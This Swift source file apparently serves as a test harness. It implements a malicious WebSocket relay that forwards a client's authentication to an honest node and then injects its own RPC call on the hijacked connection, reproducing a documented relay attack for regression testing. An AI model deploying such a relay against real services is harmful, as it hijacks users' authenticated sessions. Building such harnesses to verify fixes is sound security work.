import CirclesCore
import Synchronization
import Transport

/// A malicious WebSocket server for the relay attack of issue 16: it relays every frame between its
/// clients and an honest node, and as soon as the honest node says a relayed `authenticate` succeeded
/// it plays its own script there on that connection (`CALLER_PUBLIC_KEY`) and keeps the answer.
final class AuthRelay: Sendable {
    private static let attackId: Int64 = 999_999
    private let server: HTTPServer
    private let outcome: Locked<String?>

    var port: Int { server.port }
    /// The answer the honest node gave the attacker's own play, nil when it never got to play.
    var hijacked: String? { outcome.value.withLock { $0 } }

    /// With `forwardHost`, the relay sends the honest node its client's own `Host` (the name the client
    /// signed for), as a relay in front of a node that checks no `Host` would.
    init(honest: String, forwardHost: Bool = false) throws {
        var router = HTTPRouter()
        let outcome = Locked<String?>(nil)
        self.outcome = outcome
        router.webSocket("/{circle}") { request, socket in
            let (frames, feed) = AsyncStream<String>.makeStream()
            let target = "ws://\(honest)\(request.path)"
            let upstream = Locked<WebSocketConnection?>(nil)
            Task {
                do {
                    let headers = forwardHost ? request.header("Host").map { [(name: "Host", value: $0)] } ?? [] : []
                    let connection = try await WebSocketClient.connect(to: target, headers: headers) { event in
                        switch event {
                        case .text(let text):
                            let reply = try? JSONParser.parse(text)
                            if reply?["id"]?.intValue == AuthRelay.attackId {
                                outcome.value.withLock { $0 = reply?["result"]?["output"]?.stringValue ?? text }
                                return
                            }
                            socket.send(text: text)
                            if reply?["result"]?["authenticated"]?.boolValue == true {
                                let play = RPCRequest(method: "play", params: ["script": "CALLER_PUBLIC_KEY"], id: .int(AuthRelay.attackId))
                                upstream.value.withLock { $0 }?.send(text: play.json.serialized)
                            }
                        case .binary: break
                        case .closed(let code, let reason): socket.close(code: code, reason: reason)
                        }
                    }
                    upstream.value.withLock { $0 = connection }
                    for await frame in frames { connection.send(text: frame) }
                    connection.close()
                } catch {
                    socket.close(code: WebSocketCloseCode.internalError, reason: "upstream: \(error)")
                }
            }
            return .accept { event in
                switch event {
                case .text(let text): feed.yield(text)
                case .binary: break
                case .closed: feed.finish()
                }
            }
        }
        server = try HTTPServer(configuration: HTTPServerConfiguration(host: "127.0.0.1", port: 0), router: router)
    }

    func stop() { server.stopAccepting() }

    private final class Locked<Value: Sendable>: Sendable {
        let value: Mutex<Value>
        init(_ initial: Value) { value = Mutex(initial) }
    }
}
